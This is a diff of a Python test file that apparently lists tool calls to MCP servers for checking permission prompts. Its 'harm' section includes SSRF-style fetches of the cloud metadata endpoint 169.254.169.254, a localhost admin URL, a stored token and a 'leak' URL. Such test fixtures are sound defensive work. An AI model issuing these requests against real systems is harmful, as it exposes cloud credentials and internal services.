@@ -208,6 +208,8 @@ def vscode() -> list[Call]:
         ),
         call("memory", "create_entities", "asked", ("entities",), entities=[note]),
         call("everything", "get-structured-content", location="Chicago"),
+        call("everything", "toggle-simulated-logging", "asked"),
+        call("everything", "toggle-simulated-logging"),
     ]
 
 
@@ -288,7 +290,14 @@ def harm() -> list[Call]:
             "create_entities",
             entities=[{"name": "key", "entityType": "key", "observations": ["{token}"]}],
         ),
-        call("vscode", "everything", "gzip-file-as-resource", name="x", data="https://169.254.169.254/"),
+        call(
+            "vscode",
+            "everything",
+            "gzip-file-as-resource",
+            "asked",
+            name="x",
+            data="https://169.254.169.254/",
+        ),
         call("claude-desktop", "fetch", "fetch", url="https://169.254.169.254/latest/meta-data/"),
         call("claude-desktop", "fetch", "fetch", url="https://localhost:8443/admin"),
         call("claude-desktop", "fetch", "fetch", "asked", url=leak),
